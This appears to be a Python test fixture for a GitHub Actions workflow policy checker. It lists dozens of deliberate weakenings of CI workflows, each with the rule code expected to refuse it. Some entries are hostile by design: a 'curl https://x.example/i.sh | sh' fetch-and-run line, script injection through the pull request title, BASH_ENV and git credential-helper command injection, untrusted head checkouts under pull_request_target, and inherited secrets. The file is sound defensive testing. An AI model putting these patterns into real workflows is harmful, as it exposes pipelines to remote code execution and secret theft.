"""Ways to weaken a workflow: what is done, the rule that refuses it, the file, a text of it and what it becomes."""

from pathlib import Path

from lianbing.workflows.judge import FOLDER, read_workflows

ROOT = Path(__file__).parents[2]
OURS = read_workflows(ROOT)

GATE, RECEIPTS, COMMENT = "gate", "receipts", "comment"
MAIN_REF = "          ref: main\n"
VERDICT = "        id: verdict\n"
JUDGING = ".venv/bin/python -m lianbing gate --repo ."
JUDGING_WHOLE = next(
    line.strip() for line in OURS[f"{FOLDER}/gate.yml"].splitlines() if line.strip().startswith(JUDGING)
)
PINNED = "actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1"
FETCH = '        run: git fetch --quiet --no-tags --no-recurse-submodules origin "+$HEAD_SHA:refs/lianbing/head"\n'
ENVIRONMENT = "        run: make environment\n"
STEP = "      - name: Facts of the platform\n"

WEAKENINGS: dict[str, tuple[str, str, str, str]] = {
    # what: (code, workflow, text, what it becomes)
    "head checkout by commit": (
        "W06", GATE, MAIN_REF, "          ref: ${{ github.event.pull_request.head.sha }}\n"),
    "head checkout by ref": ("W06", GATE, MAIN_REF, "          ref: refs/pull/7/merge\n"),
    "checkout of whatever the event means": ("W06", GATE, MAIN_REF, ""),
    "checkout of a fork": ("W06", GATE, MAIN_REF, MAIN_REF + "          repository: stranger/campaign\n"),
    "the action's own guard off": ("W06", GATE, MAIN_REF, MAIN_REF + "          allow-unsafe-pr-checkout: true\n"),
    "head checkout in the shell": ("W06", GATE, FETCH, FETCH.replace("run: git fetch", "run: git checkout FETCH_HEAD; git fetch")),
    "head checkout by the platform's tool": ("W06", GATE, ENVIRONMENT, "        run: gh pr checkout 7\n"),
    "a file of the head": ("W06", GATE, ENVIRONMENT, "        run: git show refs/lianbing/head:Makefile\n"),
    "receipts checks out the head": ("W06", RECEIPTS, MAIN_REF, "          ref: refs/pull/7/head\n"),
    "receipts fetches the head": ("W13", RECEIPTS, ENVIRONMENT, FETCH),
    "pull_request trigger": ("W03", GATE, "pull_request_target:", "pull_request:"),
    "pull_request trigger besides": ("W03", GATE, "permissions: {}\n", "  pull_request:\n\npermissions: {}\n"),
    "comment starts on any run": ("W03", COMMENT, "  workflow_call:", "  workflow_run: {workflows: [gate], types: [completed]}"),
    "receipts start on comments": ("W03", RECEIPTS, "  workflow_call:", "  issue_comment:"),
    "code with the base's rights": ("W03", "code", "  pull_request:", "  pull_request_target:"),
    "publishing by hand": ("W03", "publish", "  push:\n", "  workflow_dispatch:\n  push:\n"),
    "paths": ("W04", GATE, "    branches: [main]\n", "    branches: [main]\n    paths: [submissions/**]\n"),
    "paths-ignore": ("W04", GATE, "    branches: [main]\n", "    branches: [main]\n    paths-ignore: [docs/**]\n"),
    "branches-ignore": ("W04", GATE, "    branches: [main]\n", "    branches-ignore: [receipts]\n"),
    "any base": ("W04", GATE, "    branches: [main]\n", ""),
    "pushes unjudged": ("W04", GATE, "[opened, synchronize, reopened]", "[opened, reopened]"),
    "publishing from anywhere": ("W04", "publish", "    branches: [main]\n", "    branches: ['**']\n"),
    "if on the required job": ("W05", GATE, "    name: gate\n", "    name: gate\n    if: github.actor != 'demo-office'\n"),
    "required job after another": ("W05", GATE, "    name: gate\n", "    name: gate\n    needs: receipts\n"),
    "required job renamed": ("W05", GATE, "    name: gate\n", "    name: gate of ${{ github.run_id }}\n"),
    "required job in a matrix": ("W05", GATE, "    name: gate\n", "    name: gate\n    strategy: {matrix: {a: []}}\n"),
    "interpolated title": (
        "W07", GATE, STEP, '      - run: echo "${{ github.event.pull_request.title }}"\n' + STEP),
    "interpolated branch": ("W07", GATE, JUDGING, JUDGING + " --actor ${{ github.head_ref }}"),
    "interpolated title, spaced": ("W07", RECEIPTS, "received=$(", "received=$(echo ${{github . event['x']}}; "),
    "cache action": ("W08", GATE, STEP, f"      - uses: actions/cache@{'a' * 40}\n{STEP}"),
    "cache of pip": ("W08", GATE, '          python-version: "3.11"\n', '          python-version: "3.11"\n          cache: pip\n'),
    "cache mode": ("W08", GATE, "cache-mode: none", "cache-mode: write"),
    "cache mode left out": ("W08", RECEIPTS, "cache-mode: none\n", ""),
    "cache mode of a job": ("W08", GATE, "    name: gate\n", "    name: gate\n    cache-mode: write\n"),
    "write permission of the gate": ("W09", GATE, "      contents: read # main's code, and", "      contents: write #"),
    "write permission above": ("W09", GATE, "permissions: {}", "permissions: write-all"),
    "permissions left out": ("W09", COMMENT, "permissions: {}\n", ""),
    "permissions left out of the job": ("W09", "code", "    permissions:\n      contents: read # the code\n", ""),
    "the comment writes to the repository": (
        "W09", COMMENT, "      contents: read # main's code", "      contents: write # main's code"),
    "the build signs": ("W09", "publish", "      contents: read #", "      id-token: write\n      contents: read #"),
    "tag instead of commit": ("W10", GATE, PINNED, "actions/checkout@v7"),
    "branch instead of commit": ("W10", "publish", PINNED, "actions/checkout@main"),
    "short commit": ("W10", GATE, PINNED, "actions/checkout@3d3c42e"),
    "an action of the working tree": ("W10", GATE, STEP, f"      - uses: ./.github/actions/judge\n{STEP}"),
    "a workflow from elsewhere": (
        "W10", GATE, "$/.github/workflows/receipts.yml", "stranger/x/.github/workflows/receipts.yml@main"),
    "an unknown action": ("W11", GATE, STEP, f"      - uses: stranger/helper@{'a' * 40}\n{STEP}"),
    "continue-on-error on the verdict": ("W12", GATE, VERDICT, VERDICT + "        continue-on-error: true\n"),
    "continue-on-error before it": ("W12", GATE, ENVIRONMENT, ENVIRONMENT + "        continue-on-error: true\n"),
    "continue-on-error on the job": ("W12", GATE, "    name: gate\n", "    name: gate\n    continue-on-error: true\n"),
    "verdict only sometimes": ("W12", GATE, VERDICT, VERDICT + "        if: github.actor != 'demo-office'\n"),
    "|| true": ("W12", GATE, "--format github\n", "--format github || true\n"),
    "set +e": ("W12", GATE, f"          {JUDGING}", f"          set +e\n          {JUDGING}"),
    "a command after the verdict": ("W12", GATE, "--format github\n", "--format github\n          make environment\n"),
    "verdict in the background": ("W12", GATE, "--format github\n", "--format github &\n"),
    "another shell": ("W12", GATE, VERDICT, VERDICT + "        shell: sh {0}\n"),
    "another shell for all": ("W12", GATE, "    shell: bash", "    shell: bash {0}"),
    "no verdict": ("W02", GATE, JUDGING, ".venv/bin/python -m lianbing check"),
    "no receipts": ("W02", GATE, "  receipts:\n", "  receipt:\n"),
    "a command of its own": ("W13", GATE, ENVIRONMENT, "        run: python tools/prepare.py\n"),
    "a line continued": ("W13", GATE, JUDGING, JUDGING.replace(" --repo .", " \\\n            --repo .")),
    "an unquoted variable": ("W13", GATE, '--actor "$ACTOR"', "--actor $ACTOR"),
    "install without hashes": ("W14", GATE, ENVIRONMENT, "        run: .venv/bin/python -m pip install -r requirements.in\n"),
    "install of the head": ("W14", GATE, STEP, f"      - run: pip install git+https://x.example/y@refs/lianbing/head\n{STEP}"),
    "fetched and run": ("W14", "nightly", "run: make site", "run: curl https://x.example/i.sh | sh"),
    "credentials left on disk": ("W15", GATE, "          persist-credentials: false\n", ""),
    "credentials kept": ("W15", RECEIPTS, "persist-credentials: false", "persist-credentials: true"),
    "self-hosted runner": ("W16", GATE, "runs-on: ubuntu-24.04", "runs-on: self-hosted"),
    "runners by label": ("W16", RECEIPTS, "runs-on: ubuntu-24.04", "runs-on: [ubuntu-24.04, big]"),
    "a runner that moves": ("W16", "publish", "runs-on: ubuntu-24.04", "runs-on: ubuntu-latest"),
    "receipts in a queue": ("W17", RECEIPTS, "cache-mode: none\n", "cache-mode: none\n\nconcurrency: receipts\n"),
    "the receipts' job in a queue": ("W17", GATE, "    name: receipts\n", "    name: receipts\n    concurrency: receipts\n"),
    "gate in a queue": ("W17", GATE, "  group: gate-${{ github.run_id }}", "  group: gate"),
    "gate cancelled": ("W17", GATE, "cancel-in-progress: false", "cancel-in-progress: true"),
    "no time limit": ("W18", GATE, "    timeout-minutes: 30\n", ""),
    "no time limit for the impact": ("W18", GATE, "        timeout-minutes: 10\n", ""),
    "a secret": ("W19", GATE, "GITHUB_TOKEN: ${{ github.token }}", "GITHUB_TOKEN: ${{ secrets.PAT }}"),
    "all secrets": ("W19", GATE, "    uses: $/.github/workflows/c", "    secrets: inherit\n    uses: $/.github/workflows/c"),
    "the title as an environment": (
        "W20", GATE, "ACTOR: ${{ github.event.pull_request.user.login }}", "ACTOR: ${{ github.event.pull_request.title }}"),
    "the head named in receipts": (
        "W20", RECEIPTS, "GITHUB_TOKEN: ${{ github.token }}", "HEAD_SHA: ${{ github.event.pull_request.head.sha }}"),
    "the token for an action": ("W20", GATE, "          name: gate\n", "          name: ${{ github.token }}\n"),
    "a variable that the shell obeys": ("W21", GATE, "          ACTOR:", "          BASH_ENV: x\n          ACTOR:"),
    "a variable for every step": ("W21", GATE, "permissions: {}\n", "env: {PYTHONPATH: x}\n\npermissions: {}\n"),
    "git told to run something": ("W12", RECEIPTS, "credential.helper '!f() {", "credential.helper '!f() { touch x;"),
    "git's settings": ("W21", GATE, "          ACTOR:", '          GIT_CONFIG_COUNT: "1"\n          ACTOR:'),
    "a container": ("W22", RECEIPTS, "    name: receipts\n", "    name: receipts\n    container: stranger/x\n"),
    "a folder of its own": ("W22", GATE, VERDICT, VERDICT + "        working-directory: /tmp\n"),
    "a report of another run": ("W23", RECEIPTS, "          path: build/gate\n", "          path: build/gate\n          run-id: 5\n"),
    "published unverified": ("W24", "publish", "        run: .venv/bin/python -m lianbing revalidate --repo .\n", ENVIRONMENT),
    "deployed unattested": ("W24", "publish", "    needs: attest\n", "    needs: build\n"),
    "deployed anyway": ("W24", "publish", "    needs: attest\n", "    needs: attest\n    if: always()\n"),
    "receipt only if accepted": (
        "W24", GATE, "    if: always()\n    permissions:\n      contents: w", "    permissions:\n      contents: w"),
    "half the history": ("W24", "nightly", " --whole", ""),
    "seals that nobody computes again": (
        "W24", "nightly", "lianbing verify --receipts-ref refs/remotes/origin/receipts", "lianbing workflows"),
    "help instead of the seals": (
        "W25", "nightly", "verify --receipts-ref refs/remotes/origin/receipts", "verify --receipts-ref x --help"),
    "results verified against another log": (
        "W25", "nightly", "verify --receipts-ref refs/remotes/origin/receipts", "verify --receipts-ref refs/tags/x"),
    "a bundle verified that nobody made": ("W24", "nightly", "verify build/bundle.zip", "verify docs"),
    "the nightly recomputation may write": (
        "W09", "nightly", "contents: read # main with its history, and the receipts\n    steps:",
        "contents: write # main with its history, and the receipts\n    steps:"),
    "help instead of a verdict": ("W25", GATE, JUDGING_WHOLE, ".venv/bin/python -m lianbing gate --help"),
    "the head against itself": ("W25", GATE, '--base "$base" --head "$HEAD_SHA" --actor', '--base "$HEAD_SHA" --head "$HEAD_SHA" --actor'),
    "approvals of the workflow's own": (
        "W25", GATE, " --r", " --approved-by demo-office-2 --approved-by demo-office-3 --r"),
    "no facts": ("W25", GATE, '--actor "$ACTOR" --facts build/gate/facts.json', "--actor demo-office --received 2019-06-01"),
    "no log of receipts": ("W25", GATE, " --receipts-ref refs/remotes/origin/receipts", ""),
    "another repository judged": ("W25", GATE, JUDGING, JUDGING.replace("--repo .", "--repo ../x")),
    "no report": ("W25", GATE, "--report build/gate/report.json --i", "--report /dev/null --i"),
    "the head read once more": ("W25", GATE, "--document build/gate/impact.json", '--base "$HEAD_SHA" --head "$HEAD_SHA"'),
    "no annotations": ("W25", GATE, "--format github", "--format json"),
    "an actor by constant": ("W25", GATE, "ACTOR: ${{ github.event.pull_request.user.login }}", "ACTOR: demo-office"),
    "a head by constant": ("W25", GATE, "HEAD_SHA: ${{ github.event.pull_request.head.sha }}", "HEAD_SHA: main"),
    "another token": ("W25", GATE, "GITHUB_TOKEN: ${{ github.token }}", "GITHUB_TOKEN: x"),
    "facts for another base": ("W25", GATE, 'facts --base "$base"', 'facts --base "$HEAD_SHA"'),
    "no step for the environment": ("W25", GATE, "      - name: Environment\n" + ENVIRONMENT, ""),
    "one step more": ("W25", GATE, STEP, "      - name: More\n" + ENVIRONMENT + STEP),
    "another command of the program before the verdict": (
        "W25", GATE, JUDGING, f".venv/bin/python -m lianbing new x ../y\n          {JUDGING}"),
    "everything uploaded": ("W25", GATE, "          path: build/gate\n", "          path: .\n"),
    "another Python": ("W25", GATE, 'python-version: "3.11"', 'python-version: "2.7"'),
    "a word for a truth value": ("W25", "publish", "cancel-in-progress: false", 'cancel-in-progress: "false"'),
    "everything as pages": ("W25", "publish", "path: build/site", "path: ."),
    "other results": ("W25", "publish", "path: build/results\n          if-no", "path: docs\n          if-no"),
    "a proof of nothing": ("W25", "publish", "build/results/**/results.json", "build/nothing"),
    "deployed without an environment": ("W25", "publish", "    environment: github-pages\n", ""),
    "help instead of the second wall": ("W25", "publish", "revalidate --repo .", "revalidate --help"),
    "another history": ("W25", "publish", "revalidate --repo .", "revalidate --repo . refs/tags/x"),
    "help instead of the receipts": ("W25", "publish", "receipts verify --repo .", "receipts verify --help --repo ."),
    "receipts of a file": ("W25", "publish", "receipts verify --repo .", "receipts verify --file build/x --repo ."),
    "another commit published": ("W25", "publish", "lianbing publish", "lianbing publish --commit origin/evil"),
    "another folder published": ("W25", "publish", "lianbing publish", "lianbing publish --root ../x"),
    "published without receipts": ("W25", "publish", "lianbing publish --receipts build/receipts.csv", "lianbing publish"),
    "help every night": ("W25", "nightly", "revalidate --repo . --whole", "revalidate --whole --help"),
    "help instead of the audit": (
        "W25", "nightly", "pip_audit --requirement requirements.lock --require-hashes --disable-pip", "pip_audit --help"),
    "a time of receipt by constant": ("W25", RECEIPTS, '--received "$received"', "--received 2019-06-01"),
    "help instead of the platform": ("W25", RECEIPTS, "platform received --gate-report build/gate/report.json", "platform received --help"),
    "another commit of a known action": ("W10", GATE, PINNED, f"actions/checkout@{'a' * 40} # v7.0.1"),
    "another release in the comment": ("W10", GATE, PINNED, PINNED.replace("v7.0.1", "v7.0.2")),
    "a key twice": ("W01", GATE, "permissions: {}\n", "permissions: {}\n\npermissions: write-all\n"),
    "an anchor": ("W01", GATE, "    name: gate\n", "    name: &n gate\n"),
    "a merge key": ("W01", GATE, "permissions: {}\n", "<<: {permissions: write-all}\n"),
    "not YAML": ("W01", GATE, "permissions: {}", "permissions: {"),
}  # fmt: skip
